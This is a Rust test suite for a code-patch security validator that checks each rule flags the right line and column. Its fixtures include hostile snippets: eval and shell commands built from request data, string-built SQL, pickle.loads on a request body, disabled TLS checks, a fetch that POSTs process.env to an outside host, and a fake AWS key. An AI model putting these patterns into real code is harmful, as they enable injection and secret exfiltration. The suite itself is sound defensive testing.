//! One test per rule at least, each asserting the exact `line:col` reported, and the
//! look-alikes each rule must leave alone.

use selfbuild_core::change::RiskLevel;

use crate::finding::Rule;
use crate::language::Language;
use crate::pipeline::{FileInput, PatchContext, validate_file};
use crate::settings::Settings;
use crate::{CodeDecision, CodePolicy, Finding};

/// A real unified diff from `before` to `after` with `a/`/`b/` headers.
fn diff(path: &str, before: Option<&str>, after: &str) -> String {
    let patch = diffy::create_patch(before.unwrap_or(""), after).to_string();
    let hunks: String = patch.lines().skip(2).map(|l| format!("{l}\n")).collect();
    let old = before.map_or_else(|| "/dev/null".to_owned(), |_| format!("a/{path}"));
    format!("--- {old}\n+++ b/{path}\n{hunks}")
}

struct Case<'a> {
    path: &'a str,
    before: Option<&'a str>,
    after: &'a str,
    tenant: Option<&'a str>,
    handler: Option<&'a str>,
    env: &'a [(&'a str, &'a str)],
}

impl<'a> Case<'a> {
    fn new(path: &'a str, before: &'a str, after: &'a str) -> Self {
        Self {
            path,
            before: Some(before),
            after,
            tenant: None,
            handler: None,
            env: &[],
        }
    }

    fn run(&self) -> Vec<Finding> {
        let settings = Settings::from_lookup(|name| {
            self.env
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| (*v).to_owned())
        })
        .expect("settings");
        let d = diff(self.path, self.before, self.after);
        let input = FileInput {
            path: self.path,
            language: None,
            base: self.before,
            diff: &d,
        };
        let context = PatchContext {
            handler: self.handler,
            tenant: self.tenant,
        };
        validate_file(&input, &context, &settings)
            .expect("validates")
            .findings
    }
}

/// The findings of `rule` as (line, col, risk).
fn of(findings: &[Finding], rule: Rule) -> Vec<(usize, usize, RiskLevel)> {
    findings
        .iter()
        .filter(|f| f.rule == rule)
        .map(|f| (f.line, f.col, f.risk))
        .collect()
}

fn new_only(findings: &[Finding]) -> Vec<&Finding> {
    findings.iter().filter(|f| !f.pre_existing).collect()
}

const PY: &str = "import os\nimport subprocess\n\n\ndef handler(event, context):\n    name = event[\"name\"]\n    return {\"ok\": True}\n";

fn py_after(lines: &str) -> String {
    PY.replace(
        "    return {\"ok\": True}\n",
        &format!("{lines}    return {{\"ok\": True}}\n"),
    )
}

#[test]
fn patch_applies_is_located_at_the_hunk() {
    let before = "a\nb\nc\n";
    let d = "--- a/x.py\n+++ b/x.py\n@@ -2,2 +2,2 @@\n-zzz\n+y\n c\n";
    let input = FileInput {
        path: "x.py",
        language: None,
        base: Some(before),
        diff: d,
    };
    let report = validate_file(&input, &PatchContext::default(), &Settings::defaults()).unwrap();
    assert_eq!(
        of(&report.findings, Rule::PatchApplies),
        [(2, 1, RiskLevel::Critical)]
    );
    assert!(report.new_text.is_none());
}

#[test]
fn syntax_errors_are_located_and_block() {
    let after = py_after("    value = int(event.get(\"n\", \"1\")\n");
    let f = Case::new("h.py", PY, &after).run();
    let syntax = of(&f, Rule::Syntax);
    assert!(!syntax.is_empty(), "{f:?}");
    assert!(
        syntax
            .iter()
            .all(|(l, _, r)| *l >= 7 && *r == RiskLevel::Critical),
        "{syntax:?}"
    );
    let tabs = py_after("\tx = 1\n");
    let f = Case::new("h.py", PY, &tabs).run();
    assert_eq!(of(&f, Rule::Syntax)[0].0, 7, "{f:?}");
}

#[test]
fn code_execution_from_data_is_located_at_the_call() {
    let after = py_after("    value = eval(name)\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(of(&f, Rule::CodeExecution), [(7, 13, RiskLevel::Critical)]);

    let after = py_after(
        "    from subprocess import run as r\n    cmd = \"ls \" + name\n    r(cmd, shell=True)\n",
    );
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(of(&f, Rule::CodeExecution), [(9, 5, RiskLevel::Critical)]);

    let js = "const cp = require('child_process');\nexports.handler = async (event) => {\n  return 1;\n};\n";
    let after = js.replace(
        "  return 1;",
        "  cp.execSync(`ls ${event.dir}`);\n  return 1;",
    );
    let f = Case::new("i.js", js, &after).run();
    assert_eq!(of(&f, Rule::CodeExecution), [(3, 3, RiskLevel::Critical)]);

    let rs = "use std::process::Command;\n\nfn run(p: &str) {\n    let _ = p;\n}\n";
    let after = rs.replace("    let _ = p;", "    let _ = Command::new(p).status();");
    let f = Case::new("src/lib.rs", rs, &after).run();
    assert_eq!(of(&f, Rule::CodeExecution), [(4, 13, RiskLevel::Critical)]);
}

#[test]
fn a_constant_shell_command_is_medium() {
    let after = py_after("    os.system(\"sync\")\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(of(&f, Rule::ShellCommand), [(7, 5, RiskLevel::Medium)]);
    assert!(of(&f, Rule::CodeExecution).is_empty());
}

#[test]
fn regex_bait_is_not_a_finding() {
    let after = py_after(concat!(
        "    executor = None\n",
        "    exec_time_ms = 3\n",
        "    import logging\n",
        "    logging.info(\"password reset for %s; token refreshed\", name)\n",
        "    subprocess.run([\"gzip\", \"-9\", \"/tmp/out\"], check=True)\n",
        "    cur = None\n",
        "    cur.execute(\"SELECT * FROM t WHERE id = %s\", (name,))\n",
        "    evaluation = compile_rules = 1\n",
    ));
    let f = Case::new("h.py", PY, &after).run();
    assert!(new_only(&f).is_empty(), "{f:?}");
}

#[test]
fn destructive_operations_are_located() {
    let after = py_after("    import shutil\n    shutil.rmtree(\"/tmp/\" + name)\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(
        of(&f, Rule::DestructiveOperation),
        [(8, 5, RiskLevel::High)]
    );

    let after = py_after("    q = \"DROP TABLE orders\"\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(
        of(&f, Rule::DestructiveOperation),
        [(7, 9, RiskLevel::Critical)]
    );

    let after = py_after(
        "    import shutil\n    shutil.rmtree(\"/tmp/scratch\")\n    q = \"DELETE FROM t WHERE id = %s\"\n",
    );
    let f = Case::new("h.py", PY, &after).run();
    assert!(of(&f, Rule::DestructiveOperation).is_empty(), "{f:?}");
}

#[test]
fn sql_built_from_strings_is_located_at_the_execute_call() {
    let after =
        py_after("    cur = None\n    cur.execute(f\"SELECT * FROM t WHERE name = '{name}'\")\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(of(&f, Rule::SqlInjection), [(8, 5, RiskLevel::Critical)]);

    let ts = "import { Pool } from 'pg';\nconst pool = new Pool();\nexport async function f(r: string) {\n  return 1;\n}\n";
    let after = ts.replace(
        "  return 1;",
        "  const sql = 'SELECT * FROM t WHERE r = ' + r;\n  return pool.query(sql);",
    );
    let f = Case::new("a.ts", ts, &after).run();
    assert_eq!(of(&f, Rule::SqlInjection), [(5, 10, RiskLevel::Critical)]);
}

/// The SQL findings on what the patch changes, as (line, col).
fn sql_at(path: &str, before: &str, after: &str) -> Vec<(usize, usize)> {
    let f = Case::new(path, before, after).run();
    new_only(&f)
        .iter()
        .filter(|f| f.rule == Rule::SqlInjection)
        .map(|f| (f.line, f.col))
        .collect()
}

#[test]
fn sql_built_by_a_helper_is_located_at_the_execute_call() {
    let before = "import psycopg2\n\n\ndef handler(event, context):\n    cur = psycopg2.connect().cursor()\n    return cur.fetchone()\n";
    let after = "import psycopg2\n\n\ndef _region_query(region):\n    return \"SELECT SUM(amount) FROM sales WHERE region = '\" + region + \"'\"\n\n\ndef handler(event, context):\n    cur = psycopg2.connect().cursor()\n    cur.execute(_region_query(event[\"region\"]))\n    return cur.fetchone()\n";
    assert_eq!(sql_at("h.py", before, after), [(10, 5)]);
    // Through a binding, and a method called through `self`.
    let after = "import psycopg2\n\n\nclass Repo:\n    def _q(self, region):\n        return f\"DELETE FROM sales WHERE region = '{region.upper()}'\"\n\n    def clear(self, cur, region):\n        sql = self._q(region)\n        cur.execute(sql)\n\n\ndef handler(event, context):\n    cur = psycopg2.connect().cursor()\n    return cur.fetchone()\n";
    assert_eq!(sql_at("h.py", before, after), [(10, 9)]);

    let js = "const { Pool } = require('pg');\nconst pool = new Pool();\n\nexports.handler = async (event) => {\n  return [];\n};\n";
    let after = "const { Pool } = require('pg');\nconst pool = new Pool();\n\nfunction regionQuery(region) {\n  return `SELECT SUM(amount) FROM sales WHERE region = '${region}'`;\n}\n\nexports.handler = async (event) => {\n  const res = await pool.query(regionQuery(event.queryStringParameters.region));\n  return res.rows;\n};\n";
    assert_eq!(sql_at("h.js", js, after), [(9, 21)]);

    let ts = "import { Pool } from 'pg';\nconst pool = new Pool();\n\nexport async function handler(event: { region: string }) {\n  return [];\n}\n";
    let after = "import { Pool } from 'pg';\nconst pool = new Pool();\n\nconst regionQuery = (region: string): string =>\n  'SELECT SUM(amount) FROM sales WHERE region = \\'' + region + '\\'';\n\nexport async function handler(event: { region: string }) {\n  const sql = regionQuery(event.region);\n  return pool.query(sql);\n}\n";
    assert_eq!(sql_at("h.ts", ts, after), [(9, 10)]);

    let rs = "use sqlx::PgPool;\n\npub async fn handler(pool: &PgPool, region: String) -> Result<(), sqlx::Error> {\n    Ok(())\n}\n";
    let after = "use sqlx::PgPool;\n\nfn region_query(region: &str) -> String {\n    format!(\"SELECT SUM(amount) FROM sales WHERE region = '{region}'\")\n}\n\npub async fn handler(pool: &PgPool, region: String) -> Result<(), sqlx::Error> {\n    sqlx::query(&region_query(&region)).execute(pool).await?;\n    Ok(())\n}\n";
    assert_eq!(sql_at("h.rs", rs, after), [(8, 5)]);
    // `return` in Rust, with `format!` arguments.
    let after = "use sqlx::PgPool;\n\nfn region_query(region: &str) -> String {\n    return format!(\"DELETE FROM sales WHERE region = '{}'\", region);\n}\n\npub async fn handler(pool: &PgPool, region: String) -> Result<(), sqlx::Error> {\n    let sql = region_query(&region);\n    sqlx::query(&sql).execute(pool).await?;\n    Ok(())\n}\n";
    assert_eq!(sql_at("h.rs", rs, after), [(9, 5)]);
}

#[test]
fn sql_built_by_a_method_is_followed_through_this_and_self() {
    let js = "class Repo {\n  constructor(pool) {\n    this.pool = pool;\n  }\n}\nmodule.exports = { Repo };\n";
    let after = "class Repo {\n  constructor(pool) {\n    this.pool = pool;\n  }\n\n  regionSql(region) {\n    return 'DELETE FROM sales WHERE region = ' + region;\n  }\n\n  clear(region) {\n    return this.pool.query(this.regionSql(region));\n  }\n}\nmodule.exports = { Repo };\n";
    assert_eq!(sql_at("repo.js", js, after), [(11, 12)]);

    let rs = "use sqlx::PgPool;\n\npub struct Repo {\n    pool: PgPool,\n}\n";
    let after = "use sqlx::PgPool;\n\npub struct Repo {\n    pool: PgPool,\n}\n\nimpl Repo {\n    fn region_sql(region: &str) -> String {\n        format!(\"DELETE FROM sales WHERE region = '{region}'\")\n    }\n\n    fn tenant_sql(&self, tenant: &str) -> String {\n        format!(\"DELETE FROM sales WHERE tenant = '{tenant}'\")\n    }\n\n    pub async fn clear(&self, region: &str) -> Result<(), sqlx::Error> {\n        sqlx::query(&Self::region_sql(region)).execute(&self.pool).await?;\n        sqlx::query(&self.tenant_sql(region)).execute(&self.pool).await?;\n        Ok(())\n    }\n}\n";
    assert_eq!(sql_at("repo.rs", rs, after), [(17, 9), (18, 9)]);
}

#[test]
fn sql_helper_changed_alone_is_reported_at_its_callers() {
    let before = "import psycopg2\n\n\ndef _region_query(region):\n    return \"SELECT SUM(amount) FROM sales WHERE region = %s\"\n\n\ndef handler(event, context):\n    cur = psycopg2.connect().cursor()\n    cur.execute(_region_query(event[\"region\"]), (event[\"region\"],))\n    return cur.fetchone()\n";
    let after = before.replace("region = %s\"", "region = '\" + region + \"'\"");
    assert_eq!(sql_at("h.py", before, &after), [(10, 5)]);
}

#[test]
fn sql_helpers_with_placeholders_or_allow_listed_names_are_fine() {
    let before = "import psycopg2\n\n\ndef handler(event, context):\n    cur = psycopg2.connect().cursor()\n    return cur.fetchone()\n";
    let after = "import psycopg2\n\nTABLES = {\"daily\": \"sales_daily\", \"monthly\": \"sales_monthly\"}\n\n\ndef _region_query(region):\n    return \"SELECT SUM(amount) FROM sales WHERE region = %s\"\n\n\ndef _total_query(period):\n    return \"SELECT SUM(amount) FROM \" + TABLES[period] + \" WHERE region = %s\"\n\n\ndef _count_query(period):\n    return \"SELECT COUNT(*) FROM {} WHERE region = %s\".format(TABLES.get(period, \"sales_daily\"))\n\n\ndef handler(event, context):\n    cur = psycopg2.connect().cursor()\n    cur.execute(_region_query(event[\"region\"]), (event[\"region\"],))\n    cur.execute(_total_query(event[\"period\"]), (event[\"region\"],))\n    cur.execute(_count_query(event[\"period\"]), (event[\"region\"],))\n    return cur.fetchone()\n";
    assert_eq!(sql_at("h.py", before, after), []);

    let js = "const { Pool } = require('pg');\nconst pool = new Pool();\n\nexports.handler = async (event) => {\n  return [];\n};\n";
    let after = "const { Pool } = require('pg');\nconst pool = new Pool();\nconst TABLES = { daily: 'sales_daily', monthly: 'sales_monthly' };\n\nfunction regionQuery(region) {\n  return 'SELECT SUM(amount) FROM sales WHERE region = $1';\n}\n\nfunction totalQuery(period) {\n  return `SELECT SUM(amount) FROM ${TABLES[period]} WHERE region = $1`;\n}\n\nexports.handler = async (event) => {\n  const r = event.region;\n  await pool.query(regionQuery(r), [r]);\n  return pool.query(totalQuery(event.period), [r]);\n};\n";
    assert_eq!(sql_at("h.js", js, after), []);

    let rs = "use sqlx::PgPool;\n\npub async fn handler(pool: &PgPool, region: String) -> Result<(), sqlx::Error> {\n    Ok(())\n}\n";
    let after = "use sqlx::PgPool;\n\nfn region_query(_region: &str) -> &'static str {\n    \"SELECT SUM(amount) FROM sales WHERE region = $1\"\n}\n\nfn total_query(period: &str) -> String {\n    let table = match period {\n        \"daily\" => \"sales_daily\",\n        _ => \"sales_monthly\",\n    };\n    format!(\"SELECT SUM(amount) FROM {table} WHERE region = $1\")\n}\n\npub async fn handler(pool: &PgPool, region: String) -> Result<(), sqlx::Error> {\n    sqlx::query(region_query(&region)).bind(&region).execute(pool).await?;\n    sqlx::query(&total_query(&region)).bind(&region).execute(pool).await?;\n    Ok(())\n}\n";
    assert_eq!(sql_at("h.rs", rs, after), []);
}

#[test]
fn unsafe_deserialization_is_located() {
    let after = py_after("    import pickle\n    obj = pickle.loads(event[\"body\"])\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(
        of(&f, Rule::UnsafeDeserialization),
        [(8, 11, RiskLevel::Critical)]
    );
    let safe =
        py_after("    import yaml\n    obj = yaml.load(event[\"body\"], Loader=yaml.SafeLoader)\n");
    let f = Case::new("h.py", PY, &safe).run();
    assert!(of(&f, Rule::UnsafeDeserialization).is_empty(), "{f:?}");
}

#[test]
fn tls_egress_and_exfiltration_are_located() {
    let after =
        py_after("    import urllib.request\n    urllib.request.urlopen(\"https://10.1.2.3/x\")\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(of(&f, Rule::EgressHost), [(8, 5, RiskLevel::High)]);

    let after = py_after(
        "    import urllib.request\n    urllib.request.urlopen(\"https://s3.eu-west-1.amazonaws.com/b/k\")\n",
    );
    let f = Case::new("h.py", PY, &after).run();
    assert!(
        new_only(&f).is_empty(),
        "AWS endpoints are always allowed: {f:?}"
    );

    let js = "exports.handler = async (event) => {\n  return 1;\n};\n";
    let after = js.replace(
        "  return 1;",
        "  const agent = { rejectUnauthorized: false };\n  return 1;",
    );
    let f = Case::new("i.js", js, &after).run();
    assert_eq!(of(&f, Rule::TlsVerification), [(2, 19, RiskLevel::High)]);

    let after = js.replace("  return 1;", "  await fetch('https://api.example.org', { method: 'POST', body: JSON.stringify(process.env) });\n  return 1;");
    let f = Case::new("i.js", js, &after).run();
    assert_eq!(of(&f, Rule::Exfiltration), [(2, 9, RiskLevel::Critical)]);
}

#[test]
fn secrets_are_located_and_examples_are_not() {
    let after = py_after("    key = \"AKIA4QHZ7RMWTX2NV6YB\"\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(of(&f, Rule::Secret), [(7, 12, RiskLevel::Critical)]);
    let after = py_after(
        "    key = \"AKIAIOSFODNN7EXAMPLE\"  # the documented example\n    password = \"changeme-placeholder\"\n",
    );
    let f = Case::new("h.py", PY, &after).run();
    assert!(of(&f, Rule::Secret).is_empty(), "{f:?}");
    // In a comment too: anywhere in the new text.
    let after = py_after("    # -----BEGIN RSA PRIVATE KEY-----\n");
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(of(&f, Rule::Secret), [(7, 7, RiskLevel::Critical)]);
}

#[test]
fn protected_paths_are_critical() {
    let f = Case::new("infra/main.tf", "a = 1\n", "a = 2\n").run();
    assert_eq!(of(&f, Rule::ProtectedPath), [(1, 1, RiskLevel::Critical)]);
    let f = Case {
        env: &[("PROTECTED_PATHS", "billing/**")],
        ..Case::new("billing/charge.py", "x = 1\n", "x = 2\n")
    }
    .run();
    assert_eq!(of(&f, Rule::ProtectedPath), [(1, 1, RiskLevel::Critical)]);
}

#[test]
fn compatibility_rules_are_located() {
    let renamed = PY.replace("def handler(", "def handle(");
    let f = Case::new("h.py", PY, &renamed).run();
    assert_eq!(
        of(&f, Rule::HandlerSignature),
        [(5, 1, RiskLevel::Critical)]
    );

    let lib =
        "def total(a, b):\n    return a + b\n\n\ndef mean(xs):\n    return sum(xs) / len(xs)\n";
    let after = lib.replace("def total(a, b):", "def total(a, b, c):");
    let f = Case::new("lib.py", lib, &after).run();
    assert_eq!(of(&f, Rule::SignatureChanged), [(1, 5, RiskLevel::High)]);
    let optional = lib.replace("def total(a, b):", "def total(a, b, c=0):");
    assert!(Case::new("lib.py", lib, &optional).run().is_empty());
    let removed = lib.replace("\n\ndef mean(xs):\n    return sum(xs) / len(xs)\n", "");
    let f = Case::new("lib.py", lib, &removed).run();
    assert_eq!(of(&f, Rule::RemovedExport), [(3, 1, RiskLevel::High)]);

    let rs = "pub fn f(x: u8) -> u8 {\n    x\n}\n";
    let after = rs.replace(
        "    x\n",
        "    unsafe { std::hint::unreachable_unchecked() }\n",
    );
    let f = Case::new("src/lib.rs", rs, &after).run();
    assert_eq!(of(&f, Rule::UnsafeCode), [(2, 5, RiskLevel::High)]);

    let f = Case {
        handler: Some("src/h.handler"),
        ..Case::new("src/h.py", PY, &renamed)
    }
    .run();
    assert_eq!(
        of(&f, Rule::HandlerSignature),
        [(5, 1, RiskLevel::Critical)]
    );
}

#[test]
fn tenant_isolation_is_located() {
    let after = py_after("    query = {\"tenant_id\": \"globex\"}\n");
    let f = Case {
        tenant: Some("acme"),
        ..Case::new("h.py", PY, &after)
    }
    .run();
    assert_eq!(
        of(&f, Rule::TenantIsolation),
        [(7, 14, RiskLevel::Critical)]
    );
    let own = py_after("    query = {\"tenant_id\": \"acme\"}\n");
    let f = Case {
        tenant: Some("acme"),
        ..Case::new("h.py", PY, &own)
    }
    .run();
    assert!(of(&f, Rule::TenantIsolation).is_empty(), "{f:?}");
    let known = py_after("    other = \"initech\"\n");
    let f = Case {
        tenant: Some("acme"),
        env: &[("KNOWN_TENANTS", "acme,initech")],
        ..Case::new("h.py", PY, &known)
    }
    .run();
    assert_eq!(
        of(&f, Rule::TenantIsolation),
        [(7, 13, RiskLevel::Critical)]
    );
}

#[test]
fn imports_outside_the_allow_list_are_located() {
    let after = PY.replace(
        "import subprocess\n",
        "import subprocess\nimport requests\nimport json\n",
    );
    let f = Case::new("h.py", PY, &after).run();
    assert_eq!(of(&f, Rule::ImportAllowlist), [(3, 8, RiskLevel::Medium)]);
    let f = Case {
        env: &[("IMPORT_ALLOWED", "python:requests")],
        ..Case::new("h.py", PY, &after)
    }
    .run();
    assert!(of(&f, Rule::ImportAllowlist).is_empty(), "{f:?}");
}

#[test]
fn a_new_manifest_dependency_is_located() {
    let before = "{\n  \"dependencies\": {\n    \"a\": \"1\"\n  }\n}\n";
    let after = "{\n  \"dependencies\": {\n    \"a\": \"1\",\n    \"b\": \"2\"\n  }\n}\n";
    let f = Case::new("package.json", before, after).run();
    assert_eq!(of(&f, Rule::NewDependency), [(4, 1, RiskLevel::Medium)]);
    let bump = before.replace("\"1\"", "\"1.1\"");
    assert!(Case::new("package.json", before, &bump).run().is_empty());
}

#[test]
fn a_pre_existing_problem_is_reported_low_and_does_not_block() {
    let before = py_after("    value = eval(name)\n");
    let after = before.replace(
        "    return {\"ok\": True}",
        "    return {\"ok\": True, \"n\": 1}",
    );
    let d = diff("h.py", Some(&before), &after);
    let input = FileInput {
        path: "h.py",
        language: Some(Language::Python),
        base: Some(&before),
        diff: &d,
    };
    let report =
        crate::validate_patch(&[input], &PatchContext::default(), &Settings::defaults()).unwrap();
    let f: Vec<&Finding> = report.findings().collect();
    assert_eq!(f.len(), 1, "{f:?}");
    assert!(f[0].pre_existing && f[0].risk == RiskLevel::Low);
    assert!(f[0].message.starts_with("pre-existing"), "{}", f[0].message);
    let policy = CodePolicy {
        autonomous: true,
        medium_risk_approvals: 1,
    };
    assert_eq!(report.verdict(&policy).decision, CodeDecision::Allow);
}
